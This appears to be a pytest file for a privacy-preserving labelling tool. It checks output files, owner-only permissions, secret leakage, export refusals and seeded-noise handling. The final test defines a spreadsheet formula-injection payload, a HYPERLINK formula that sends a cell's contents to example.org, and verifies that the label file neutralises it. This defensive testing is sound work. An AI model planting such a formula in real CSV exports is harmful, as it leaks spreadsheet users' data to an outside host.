"""A run on a user's own CSV files: what is written, who may read it, and what leaves."""

import stat
import sys
from dataclasses import replace
from itertools import combinations

import polars as pl
import pytest
from tests.folder.conftest import PUBLISHED, history, labels, run, spent_on

from quorate.accounting import Guarantee
from quorate.accounting.attacker import OF_BUDGETS
from quorate.deferred import skops
from quorate.errors import InvalidParameter, act
from quorate.folder.batch import load_run
from quorate.folder.data_settings import unit_word
from quorate.folder.folder import RunFolder
from quorate.folder.loaded import facts_for_owner
from quorate.folder.methods import publish
from quorate.folder.prepared import outputs
from quorate.ledger import Ledger
from quorate.noise import SeededNoise
from quorate.report import Facts
from quorate.run.facts import RunMetadata
from quorate.types import Secret
from quorate.voting import method as voting_facts
from quorate.voting.flow import run_pipeline

pytestmark = pytest.mark.mostly_heavy


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def finished(finished_run):
    return finished_run(**{"data.evaluation": "evaluation.csv"})


def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished):
    assert {path.name for path in (finished / "public").iterdir()} == PUBLISHED
    guarantee = Guarantee.from_json((finished / "public" / "guarantee.json").read_text())
    assert 3.99 < guarantee.epsilon <= 4.0
    assert (guarantee.delta, guarantee.unit) == (1e-5, "record")
    facts = Facts.from_json((finished / "public" / "facts.json").read_text())
    assert facts.guarantee == guarantee
    assert facts.utility.student is not None
    shown = pl.read_csv(finished / "evaluation.csv")
    student = skops.io.load(finished / "public" / "student.skops")
    right = student.predict(shown.drop("ill")) == shown["ill"].to_numpy()
    assert facts.utility.student.accuracy == pytest.approx(right.mean())  # of secret noise: it may be any number
    assert "is the owner's word" in (finished / "public" / "report.html").read_text().replace("&#x27;", "'")
    rows = labels(finished)
    assert len(rows) == facts.answers.asked == 150
    assert {row["label"] for row in rows} <= {"no", "yes"}
    assert {row["status"] for row in rows} == {"answered"}
    spent, n_charges = spent_on(finished)
    assert (spent.epsilon, n_charges) == (guarantee.epsilon, 1)


def test_the_private_side_is_readable_by_its_owner_alone_and_nothing_of_it_lies_on_the_public_one(finished):
    assert mode(finished / "private") == 0o700
    kept = [path for path in finished.rglob("*") if path.is_file() and path.parent.name == "private"]
    beside = [finished / name for name in ("ledger.db", "ledger.db.key", "ledger.db.anchor")]
    assert {"run.key", "votes.stage"} <= {path.name for path in kept}
    assert {mode(path) for path in [*kept, *beside]} == {0o600}
    written = b"".join(path.read_bytes() for path in sorted((finished / "public").iterdir()))
    keys = [(finished / "private" / "run.key").read_bytes(), (finished / "ledger.db.key").read_bytes()]
    secrets = [form for key in keys for form in (key, key.hex().encode())]
    bmi = pl.read_csv(finished / "private.csv")["bmi"].to_list()
    ours = set(pl.read_csv(finished / "public.csv")["bmi"].to_list())
    secrets += [str(each).encode() for each in bmi if len(str(each)) == 6 and each not in ours]
    assert len(secrets) > 200
    assert [secret for secret in secrets if secret in written] == []


@pytest.mark.quick
def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_run):
    root = make_run()
    (root / "private").mkdir(mode=0o777)
    (root / "private").chmod(0o777)
    load_run(root)
    assert mode(root / "private") == 0o700


def test_a_finished_run_again_and_another_student_of_it_charge_and_draw_nothing(finished):
    before, settings = (labels(finished), history(finished)), finished / "quorate.toml"
    first, text = run(finished), settings.read_text()
    assert (labels(finished), history(finished)) == before
    for student, name in (
        ('model = "forest"', "RandomForestClassifier"),
        ('method = "values"\nmodel = "shares"', "LogisticRegression (VoteShareStudent)"),
    ):
        settings.write_text(f"{text}\n[student]\n{student}\n")
        facts = run(finished)
        assert (facts.setup.student, facts.answers, facts.guarantee) == (name, first.answers, first.guarantee)
        assert (labels(finished), history(finished)) == before


def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run, cli):
    root = make_run(**{"teachers.model": "my_ward:teacher"})
    (root / "my_ward.py").write_text(
        "from sklearn.compose import make_column_transformer\n"
        "from sklearn.pipeline import make_pipeline\n"
        "from sklearn.preprocessing import FunctionTransformer, OneHotEncoder\n"
        "from sklearn.tree import DecisionTreeClassifier\n"
        "def as_it_is(frame):\n    return frame\n"
        "def teacher():\n"
        "    read = make_column_transformer((OneHotEncoder(handle_unknown='ignore'), ['ward']),\n"
        "                                   (FunctionTransformer(as_it_is), ['age', 'bmi']))\n"
        "    return make_pipeline(read, DecisionTreeClassifier(max_depth=3))\n"
    )
    facts = Facts.from_json(cli.ok("run", root, "--json"))
    assert facts.setup.teacher == "ColumnTransformer → DecisionTreeClassifier"
    assert facts.answers.answered == 150


@pytest.mark.default_cases(2)
@pytest.mark.parametrize("code", ["raise RuntimeError('no licence')", "import no_such_module", "teacher = 3", "pass"])
def test_a_teacher_that_cannot_be_made_is_one_line(make_run, code):
    root = make_run(**{"teachers.model": "broken_ward:teacher"})
    (root / "broken_ward.py").write_text(f"{code}\n")
    sys.modules.pop("broken_ward", None)
    with pytest.raises(InvalidParameter, match=r"'broken_ward:teacher' could not be made"):
        load_run(root)


def test_people_have_all_their_rows_with_one_teacher(make_run):
    root = make_run(**{"data.unit": "patient_id", "data.collection": "Visits of one ward."})
    for path in (root / "private.csv", root / "public.csv"):
        pl.read_csv(path).with_columns(country=pl.lit("CH")).write_csv(path)
    batch = load_run(root)
    assert batch.task.neighbouring.stated == "add, remove or replace one patient"
    assert len(set(batch.task.inputs.private.reveal().unit_keys)) == 200
    facts = run(root)
    assert facts.guarantee.unit == "patient"
    assert facts.setup.data_collection == "Visits of one ward."
    tips = [tip.words for tip in batch.task.recipe.cautions if tip.code not in OF_BUDGETS]
    assert tips
    assert not any(tip in line for tip in tips for line in facts.setup.recipe)  # which are for the owner alone
    notes = " ".join(facts_for_owner(load_run(root)).reveal().notes)
    assert all(tip[1:] in notes for tip in tips)


@pytest.mark.quick
def test_a_column_that_numbers_records_is_no_clash_with_the_word_record():
    assert unit_word("record_id") == "record id"


@pytest.mark.quick
@pytest.mark.parametrize("side", ["private", "public"])
def test_an_export_onto_a_side_of_the_boundary_is_refused(finished, tmp_path, cli, side):
    (tmp_path / "link").symlink_to(finished / side)
    before = sorted(finished.rglob("*"))
    for place in (finished / side / "x", finished / side / "a" / "b", tmp_path / "link" / "x"):
        for kind in ("files", "tre"):
            said = cli.refused(4, "export", finished, "--to", place, "--format", kind)
            assert f"lies in {finished / side}, which holds" in said
    assert sorted(finished.rglob("*")) == before
    assert cli("export", finished, "--to", finished / "outbox")[0] == 0  # beside them it stands by itself


def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run, cli, tmp_path):
    root = make_run(**{"run.unsafe_noise_seed": 3})
    facts = run(root)
    assert facts.seeded
    public = root / "public"
    assert {path.name for path in public.iterdir()} == PUBLISHED - {"student.skops"}
    for name in PUBLISHED - {"student.skops"}:
        assert "reproducible" in (public / name).read_text(encoding="utf-8"), name
    with Ledger(root / "ledger.db") as ledger:
        assert "no guarantee" in ledger.reservations()[0].client
    assert outputs(RunFolder(root), next_command="").student == str(root / "private" / "student.skops")
    said = cli.refused(4, "export", root, "--to", tmp_path / "outbox")
    for words in (
        "seeded noise: this run is reproducible, therefore not private",
        "Remove unsafe_noise_seed",
        "QUO-E008",
    ):
        assert words in said
    assert not (tmp_path / "outbox").exists()


def test_the_same_seed_gives_the_same_labels_and_another_one_or_none_does_not(make_run):
    seeds = (*({"run.unsafe_noise_seed": seed} for seed in (3, 3, 4)), {}, {})
    roots = [make_run(f"run{at}", **seed) for at, seed in enumerate(seeds)]
    for root in roots:
        run(root)
    first, again, *others = map(labels, roots)
    assert first == again
    assert all(one != other for one, other in combinations([first, *others], 2))
    assert len({(root / "private" / "run.key").read_bytes() for root in roots[3:]}) == 2


def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(make_run, monkeypatch):
    root = make_run()

    def unwritable(student):
        raise TypeError("a lock cannot be written")

    with monkeypatch.context() as patch:
        patch.setattr(skops.io, "dumps", unwritable)
        with act(), pytest.raises(InvalidParameter, match="cannot be written by skops") as refusal:
            run(root)
    assert "stays charged" in str(refusal.value.charged)
    entries = history(root)
    run(root)
    assert history(root) == entries


def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished):
    batch, metadata = load_run(finished), RunMetadata(title="run", command="", started="2026-01-01T00:00:00+00:00")
    with batch.open_ledger() as ledger:
        outcome = run_pipeline(batch.task, ledger, key=batch.charge_key)
        facts = voting_facts.facts(batch.task, outcome, ledger, metadata)
    seeded = replace(batch, task=replace(batch.task, noise=SeededNoise(1)))
    publish(seeded, outcome, outcome.model, facts)
    assert not (finished / "public" / "student.skops").exists()
    assert mode(finished / "private" / "student.skops") == 0o600


def test_the_internal_edition_knows_every_margin_and_stays_secret(finished):
    batch = load_run(finished)
    secret = facts_for_owner(batch)
    assert isinstance(secret, Secret)
    told = secret.reveal()
    assert sum(count for _, count in told.margins) == 150
    assert [teacher.status for teacher in told.teachers] == ["trained"] * 12
    assert sum(teacher.n_records for teacher in told.teachers) == 400
    assert [nu for _, nu in told.high_margin] == sorted(nu for _, nu in told.high_margin)
    assert told.high_margin[-1] == (0.5, 1.0)
    assert told.agreement.plurality > 0.8
    assert 0 < told.stability.mean < 0.5
    assert told.stability.n_records == 400 // 12


HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"


def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run, cli):
    """Its reader is somebody with a spreadsheet; the file as it is written can be a run's evaluation again."""
    root = make_run(**{"data.classes": ["+no", HOSTILE], "data.evaluation": "evaluation.csv"})
    for name in ("private.csv", "evaluation.csv"):
        table = pl.read_csv(root / name)
        ill = pl.when(pl.col("ill") == "yes").then(pl.lit(HOSTILE)).otherwise(pl.lit("+no"))
        table.with_columns(ill.alias("ill")).write_csv(root / name)
    facts = run(root)
    assert facts.setup.classes == ("+no", HOSTILE)
    rows = labels(root)
    assert {row["label"] for row in rows} == {"'+no", f"'{HOSTILE}"}
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell[:1] in "=@\t\r" or (cell[:1] in "+-" and not cell[1:].isdigit()) for cell in cells if cell)
    public = pl.read_csv(root / "public.csv").with_row_index("row")
    labelled = pl.read_csv(root / "public" / "labels.csv").cast({"row": pl.UInt32})
    again = public.join(labelled.select("row", pl.col("label").alias("ill")), on="row").drop("row")
    again.write_csv(root / "evaluation.csv")
    assert load_run(root).evaluation is not None
